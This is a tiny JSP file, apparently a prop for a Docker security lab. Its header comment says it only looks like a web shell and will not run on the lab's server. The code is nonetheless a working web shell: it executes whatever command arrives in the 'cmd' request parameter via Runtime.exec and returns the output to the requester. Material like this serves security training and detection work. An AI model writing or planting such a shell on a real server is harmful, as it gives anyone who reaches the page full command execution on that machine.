<%--
Copyright (c) The cordon.docker authors
GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
SPDX-License-Identifier: GPL-3.0-or-later
A lab prop: it has the look of a web shell; the server of this scene shows pages and runs none.
--%>
<%@ page import="java.util.Scanner" %>
<%
Process done = Runtime.getRuntime().exec(request.getParameter("cmd"));
out.print(new Scanner(done.getInputStream()).useDelimiter("\\A").next());
%>
